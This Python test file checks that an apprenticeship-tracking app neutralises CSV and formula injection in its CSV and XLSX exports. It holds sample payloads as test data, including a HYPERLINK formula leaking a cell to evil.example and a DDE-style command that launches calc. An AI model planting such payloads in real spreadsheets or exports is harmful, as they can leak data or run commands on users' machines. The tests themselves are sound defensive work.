"""Tabular exports: CSV injection neutralised in CSV and XLSX, numbers kept as numbers, and
the apprenticeship tables (cohort, posts, off-the-job log) on real rows (SQLite and
PostgreSQL). XLSX files are read back with zipfile and the XML parser, cell by cell."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from xml.etree import ElementTree

import pytest

from pathways.apprenticeships import records
from pathways.apprenticeships.progress import cohort_summary
from pathways.apprenticeships.setup import enrol
from pathways.apprenticeships.tables import (
    COHORT_HEADERS,
    OTJ_HEADERS,
    POST_HEADERS,
    cohort_table,
    otj_table,
    posts_table,
)
from pathways.exports import (
    DANGEROUS_PREFIXES,
    export,
    neutralise,
    safe_sheet_name,
    to_csv,
    to_xlsx,
)
from tests.factories import make_cohort_world
from tests.recipes import SEED_PATHWAY, holding

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
EXCEL_EPOCH = date(1899, 12, 30)
PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click me")', "+1+1", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
SAFE = ["Ann Lee", "a=b", "ann@example.org", "", "Zoë O'Brien", "1+1", "'quoted", "plain-text"]


def read_csv(data: bytes) -> list[list[str]]:
    """Parse an export's CSV (checking the BOM Excel needs)."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _column(reference: str) -> int:
    letters = re.match(r"[A-Z]+", reference).group(0)
    number = 0
    for letter in letters:
        number = number * 26 + ord(letter) - ord("A") + 1
    return number - 1


def _unescape(text: str) -> str:
    """Undo the OOXML escape of control characters (``_x000D_`` is a carriage return)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def read_xlsx(data: bytes) -> dict:
    """Read an XLSX of one sheet: its name, its cells (text as str, numbers as float) and
    whether any cell is a formula. Empty cells are None."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            root = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
            shared = [_unescape("".join(t.text or "" for t in item.iter(f"{{{NS['m']}}}t")))
                      for item in root.findall("m:si", NS)]
        workbook = ElementTree.fromstring(book.read("xl/workbook.xml"))
        name = workbook.find("m:sheets/m:sheet", NS).get("name")
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows, formulas = [], False
    for row in sheet.findall("m:sheetData/m:row", NS):
        cells: dict[int, object] = {}
        for cell in row.findall("m:c", NS):
            formulas = formulas or cell.find("m:f", NS) is not None
            value = cell.find("m:v", NS)
            kind = cell.get("t")
            if kind == "s":
                cells[_column(cell.get("r"))] = shared[int(value.text)]
            elif kind == "inlineStr":
                cells[_column(cell.get("r"))] = _unescape(
                    "".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t")))
            elif value is not None:
                cells[_column(cell.get("r"))] = float(value.text)
        width = max(cells, default=-1) + 1
        rows.append([cells.get(index) for index in range(width)])
    return {"name": name, "rows": rows, "formulas": formulas}


def excel_date(serial: float) -> date:
    return EXCEL_EPOCH + timedelta(days=int(serial))


# neutralise ---------------------------------------------------------------------------


@pytest.fixture
def database_url(request, database_for):
    """A database of its own holding the seed pathway (and people), for ``make_cohort_world``."""
    return database_for(holding(request, SEED_PATHWAY))


def test_every_dangerous_prefix_of_the_owasp_list_is_covered():
    assert set(DANGEROUS_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}
    assert {payload[0] for payload in PAYLOADS} == set(DANGEROUS_PREFIXES)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_text_that_a_spreadsheet_would_run(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("payload", ["＝HYPERLINK(\"http://evil\")", "＋1", "－1+2", "＠SUM(A1)"])
def test_full_width_formula_starters_are_neutralised_too(payload):
    """Regression: LibreOffice runs ＝1+1 as =1+1."""
    assert neutralise(payload) == "'" + payload
    written = to_csv(["a"], [[payload]]).decode("utf-8-sig").splitlines()[1]
    assert written.lstrip('"').startswith("'")


@pytest.mark.parametrize("value", SAFE)
def test_neutralise_leaves_safe_text_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value, text", [
    (-5, "-5"), (7.5, "7.5"), (187.0, "187"), (Decimal("-2.50"), "-2.5"), (Decimal("37.50"),
                                                                            "37.5"),
    (1e-7, "0.0000001"), (0, "0"), (None, ""), (True, "yes"), (False, "no"),
    (date(2026, 11, 24), "2026-11-24"), ("-5", "'-5"), (float("-inf"), "'-inf"),
])
def test_real_numbers_are_written_plainly_and_only_text_is_neutralised(value, text):
    assert neutralise(value) == text


# CSV ----------------------------------------------------------------------------------


def test_csv_neutralises_every_dangerous_cell_and_header():
    headers = ["=evil header", "name"]
    rows = [[payload, "ok"] for payload in PAYLOADS]
    parsed = read_csv(to_csv(headers, rows))
    assert parsed[0] == ["'=evil header", "name"]
    assert [row[0] for row in parsed[1:]] == ["'" + payload for payload in PAYLOADS]
    assert all(row[1] == "ok" for row in parsed[1:])


def test_csv_round_trips_headers_and_rows_with_numbers_unprefixed():
    headers = ["Email", "Hours", "Start", "Overdue", "Post", "Balance"]
    rows = [["ann@example.org", 7.5, date(2025, 9, 1), True, None, -12],
            ["Zoë O'Brien, \"Jo\"", Decimal("37.50"), date(2024, 2, 29), False, "SW-101", 0]]
    data = to_csv(headers, rows)
    assert b"\r\n" in data
    assert read_csv(data) == [headers,
                              ["ann@example.org", "7.5", "2025-09-01", "yes", "", "-12"],
                              ["Zoë O'Brien, \"Jo\"", "37.5", "2024-02-29", "no", "SW-101", "0"]]


def test_an_empty_table_is_just_its_header():
    assert read_csv(to_csv(["a", "b"], [])) == [["a", "b"]]


# XLSX ---------------------------------------------------------------------------------


def test_xlsx_neutralises_every_dangerous_cell_and_writes_no_formula():
    book = read_xlsx(to_xlsx(["=evil header", "name"],
                             [[payload, "ok"] for payload in PAYLOADS], "Payloads"))
    assert not book["formulas"]
    assert book["rows"][0] == ["'=evil header", "name"]
    assert [row[0] for row in book["rows"][1:]] == ["'" + payload for payload in PAYLOADS]


@pytest.mark.parametrize("value", SAFE[:-1] + ["http://example.org", "12345"])
def test_xlsx_leaves_safe_text_as_text(value):
    book = read_xlsx(to_xlsx(["value"], [[value]]))
    assert book["rows"][1] == [value]
    assert not book["formulas"]


def test_xlsx_round_trips_with_numbers_as_numbers_and_dates_as_dates():
    headers = ["Email", "Hours", "Start", "Overdue", "Post", "Balance"]
    rows = [["ann@example.org", 7.5, date(2025, 9, 1), True, None, -12],
            ["Zoë", Decimal("37.50"), date(2024, 2, 29), False, "SW-101", Decimal("-0.25")]]
    book = read_xlsx(to_xlsx(headers, rows, "Cohort"))
    assert book["name"] == "Cohort"
    first, second = book["rows"][1], book["rows"][2]
    assert book["rows"][0] == headers
    assert first[0] == "ann@example.org" and first[1] == 7.5 and first[3] == "yes"
    assert excel_date(first[2]) == date(2025, 9, 1)
    assert first[4] is None and first[5] == -12.0  # a real negative number is a number
    assert second[1] == 37.5 and second[3] == "no" and second[4] == "SW-101"
    assert excel_date(second[2]) == date(2024, 2, 29) and second[5] == -0.25


@pytest.mark.parametrize("name, expected", [
    ("SWDA 2025", "SWDA 2025"), ("a/b:c*d?e[f]g\\h", "a-b-c-d-e-f-g-h"), ("", "Sheet1"),
    ("x" * 40, "x" * 31), ("'quoted'", "quoted"),
])
def test_sheet_names_are_made_acceptable_to_excel(name, expected):
    assert safe_sheet_name(name) == expected
    assert read_xlsx(to_xlsx(["a"], [], name))["name"] == expected


def test_export_picks_the_format_and_refuses_others():
    assert export("csv", ["a"], [[1]]).startswith(b"\xef\xbb\xbf")
    assert export("xlsx", ["a"], [[1]]).startswith(b"PK")
    with pytest.raises(ValueError, match="unknown format 'pdf'"):
        export("pdf", ["a"], [])


# The apprenticeship tables -----------------------------------------------------------


@pytest.fixture
def world(session):
    world = make_cohort_world(session)
    world["staff"].name = '=HYPERLINK("http://evil.example","Ann")'
    apprenticeship = enrol(session, world["cohort"], world["staff"], start_date=date(2025, 9, 1),
                           planned_end_date=date(2028, 8, 31), weekly_hours=37.5,
                           post=world["post"], actor=world["lnd"])
    records.log_hours(session, apprenticeship, worked_on=date(2025, 10, 1), hours="7.5",
                      activity="taught", note="-Lecture", actor=world["staff"],
                      today=date(2026, 1, 1))
    world["apprenticeship"] = apprenticeship
    session.flush()
    return world


def test_the_cohort_table_has_one_row_per_apprentice_from_the_summary(session, world):
    records.review_entry(session, world["apprenticeship"].otj_entries[0], "approved")
    summary = cohort_summary(session, world["cohort"], date(2026, 1, 1))
    headers, rows = cohort_table(summary)
    assert headers == COHORT_HEADERS and len(rows) == 1
    row = dict(zip(headers, rows[0]))
    assert row["Email"] == "staff@example.org" and row["Status"] == "active"
    assert row["OTJ hours logged"] == 7.5 and row["OTJ hours required"] == 187
    assert row["Post"] == "SW-101" and row["Start date"] == date(2025, 9, 1)
    parsed = read_csv(to_csv(headers, rows))
    assert parsed[1][1] == "'" + world["staff"].name
    assert read_xlsx(to_xlsx(headers, rows, "SWDA 2025"))["rows"][1][1] == \
        "'" + world["staff"].name


def test_the_posts_table_lists_each_post_with_who_holds_it(session, world):
    from pathways.apprenticeships.posts import create_post

    create_post(session, world["staff"].organisation, reference="AA-1",
                role_id="newly-qualified-social-worker")
    headers, rows = posts_table(session, world["staff"].organisation)
    assert headers == POST_HEADERS
    assert [row[0] for row in rows] == ["AA-1", "SW-101"]
    held = dict(zip(headers, rows[1]))
    assert held["State"] == "Reserved" and held["Apprentice email"] == "staff@example.org"
    assert held["Cohort"] == "SWDA 2025" and held["Role id"] == "newly-qualified-social-worker"
    assert dict(zip(headers, rows[0]))["Apprentice email"] is None
    assert posts_table(session, world["outsider"].organisation)[1] == []


def test_the_otj_table_is_the_log_oldest_first(session, world):
    headers, rows = otj_table(world["apprenticeship"])
    assert headers == OTJ_HEADERS
    assert rows == [[date(2025, 10, 1), Decimal("7.50"), "Taught learning", "Submitted",
                     "-Lecture", None, world["staff"].name]]
    assert read_csv(to_csv(headers, rows))[1][4] == "'-Lecture"
